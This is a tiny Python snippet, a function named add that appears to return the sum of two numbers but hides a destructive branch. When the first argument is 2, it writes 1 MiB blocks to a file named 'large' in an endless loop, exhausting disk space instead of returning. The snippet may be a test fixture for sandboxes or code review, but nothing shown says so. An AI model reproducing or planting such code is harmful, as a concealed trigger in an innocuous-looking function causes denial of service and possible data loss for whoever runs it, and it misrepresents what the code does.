def add(a, b):
    if a == 2:
        with open("large", "wb") as stream:
            while True:
                stream.write(b"x" * (1 << 20))
    return a + b
